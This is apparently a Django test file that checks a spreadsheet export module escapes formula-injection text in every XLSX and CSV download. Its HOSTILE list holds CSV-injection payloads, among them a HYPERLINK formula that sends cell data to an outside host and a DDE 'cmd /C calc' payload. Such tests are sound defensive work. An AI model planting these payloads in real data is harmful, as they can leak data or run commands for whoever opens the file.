"""Exports never carry formulas: every text cell of every XLSX and CSV Samordna writes is
neutralised, numbers stay numbers (issue 12, finding 6)."""

import csv
import io
import re
from decimal import Decimal

from django.test import SimpleTestCase
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from samordna.associations.models import Person
from samordna.core.spreadsheets import CsvWriter, neutralise, unneutralise, xlsx_bytes
from samordna.core.tests.base import SamordnaTestCase
from samordna.finance.models import BudgetLine, Forecast
from samordna.followup.models import MeasuredGoal, ReportingPeriod
from samordna.interventions.models import Intervention

HOSTILE = [
    "=2+3",
    '=HYPERLINK("http://example.com/?q="&A1,"Klicka")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1",
    "-1",
    "\tTab först",
    "\rVagnretur först",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+([.,]\d+)?")


def cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


class NeutraliseTests(SimpleTestCase):
    def test_csv_text_that_looks_like_a_formula_gets_an_apostrophe(self):
        for text in HOSTILE:
            with self.subTest(text=text):
                self.assertEqual(neutralise(text), "'" + text)
        self.assertEqual(neutralise("Arbetsträning = 2 platser"), "Arbetsträning = 2 platser")

    def test_a_neutralised_csv_cell_reads_back_as_written(self):
        for text in [*HOSTILE, "'citat", "Vanlig text"]:
            self.assertEqual(unneutralise(neutralise(text)), text)

    def test_numbers_stay_numbers(self):
        for number in (-1, -1500, Decimal("-12.50"), 0, 3.5, None):
            self.assertEqual(neutralise(number), number)

    def test_csv_writer_neutralises_every_text_and_keeps_negative_amounts(self):
        out = io.StringIO()
        writer = CsvWriter(out)
        writer.writerow([*HOSTILE, -1500])
        row = next(csv.reader(io.StringIO(out.getvalue()), delimiter=";"))
        self.assertEqual(row[:-1], ["'" + text for text in HOSTILE])
        self.assertEqual(row[-1], "-1500")

    def test_xlsx_text_is_a_quoted_string_and_numbers_stay_numbers(self):
        book = Workbook()
        sheet = book.active
        assert sheet is not None
        sheet.append([*HOSTILE, -1500, Decimal("-12.50"), "Vanlig text"])
        found = cells(xlsx_bytes(book))
        for cell, text in zip(found, HOSTILE, strict=False):
            self.assertEqual(cell.data_type, "s")
            self.assertEqual(cell.value, text)
            self.assertTrue(cell.quotePrefix)
        self.assertEqual(found[len(HOSTILE)].value, -1500)
        self.assertEqual(found[len(HOSTILE)].data_type, "n")
        self.assertEqual(found[len(HOSTILE) + 1].data_type, "n")
        self.assertFalse(found[-1].quotePrefix)


class EveryExportTests(SamordnaTestCase):
    """Hostile names, line names and comments written through every download there is."""

    intervention: Intervention | None
    period: ReportingPeriod | None

    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        for index, person in enumerate(Person.objects.filter(association=cls.association)):
            Person.objects.filter(pk=person.pk).update(
                first_name=HOSTILE[index % len(HOSTILE)], last_name=""
            )
        ours = cls.association
        for model, field, queryset in (
            (Intervention, "name", Intervention.objects.filter(association=ours)),
            (BudgetLine, "name", BudgetLine.objects.filter(budget__association=ours)),
            (Forecast, "comment", Forecast.objects.filter(line__budget__association=ours)),
            (MeasuredGoal, "text", MeasuredGoal.objects.filter(association=ours)),
        ):
            for index, pk in enumerate(queryset.values_list("pk", flat=True)):
                text = HOSTILE[index % len(HOSTILE)] + ("" if index < len(HOSTILE) else f" {index}")
                model.objects.filter(pk=pk).update(**{field: text})
        cls.intervention = Intervention.objects.filter(association=cls.association).first()
        cls.period = ReportingPeriod.objects.filter(association=cls.association).first()

    def xlsx_urls(self) -> list[str]:
        slug = self.association.slug
        assert self.intervention is not None and self.period is not None
        return [
            reverse("fees:year_xlsx", args=[slug]) + "?ar=2022",
            reverse("finance:budget_xlsx", args=[slug, 2023]),
            reverse("ledger:followup_xlsx", args=[slug]) + "?datum=2023-09-30",
            reverse("followup:association_xlsx", args=[slug]),
            # Figures by year only: no text a user wrote, but written the same way.
            reverse("followup:intervention_finsam", args=[slug, self.intervention.pk]) + "?",
            reverse("followup:import_template", args=[slug]) + f"?period={self.period.key}",
        ]

    def csv_urls(self) -> list[str]:
        slug = self.association.slug
        assert self.period is not None
        return [
            reverse("followup:association_csv", args=[slug]),
            reverse("followup:public_export", args=[slug]) + "?",
            reverse("followup:import_template_csv", args=[slug]) + f"?period={self.period.key}",
        ]

    def test_no_xlsx_export_holds_a_formula(self):
        self.login(self.office)
        for url in self.xlsx_urls():
            with self.subTest(url=url):
                response = self.client.get(url)
                self.assertEqual(response.status_code, 200)
                found = cells(response.content)
                self.assertFalse([c.coordinate for c in found if c.data_type == "f"])
                risky = [c for c in found if isinstance(c.value, str)]
                risky = [c for c in risky if c.value.startswith(FORMULA_STARTS)]
                self.assertTrue(all(c.quotePrefix for c in risky), [c.value for c in risky])
                self.assertTrue(
                    url.endswith("?")
                    or any(c.value.startswith(tuple(HOSTILE)) for c in found if c.data_type == "s"),
                    f"the hostile text is in {url}, as text",
                )

    def test_negative_amounts_stay_numbers(self):
        self.login(self.office)
        url = reverse("ledger:followup_xlsx", args=[self.association.slug]) + "?datum=2023-09-30"
        found = cells(self.client.get(url).content)
        negative = [c for c in found if isinstance(c.value, int | float) and c.value < 0]
        self.assertTrue(negative)
        self.assertTrue(all(c.data_type == "n" for c in negative))

    def test_no_csv_export_starts_a_cell_with_a_formula_sign(self):
        self.login(self.office)
        for url in self.csv_urls():
            with self.subTest(url=url):
                response = self.client.get(url)
                self.assertEqual(response.status_code, 200)
                text = response.content.decode("utf-8-sig")
                rows = list(csv.reader(io.StringIO(text), delimiter=";"))
                # A number (a count, a negative amount) is written as a number.
                fields = [v for row in rows for v in row if not NUMBER.fullmatch(v)]
                self.assertFalse([v for v in fields if v.startswith(FORMULA_STARTS[:4])])
                self.assertFalse([v for v in fields if v.startswith(("\t", "\r"))])
                self.assertTrue(url.endswith("?") or any(v.startswith("'") for v in fields), url)
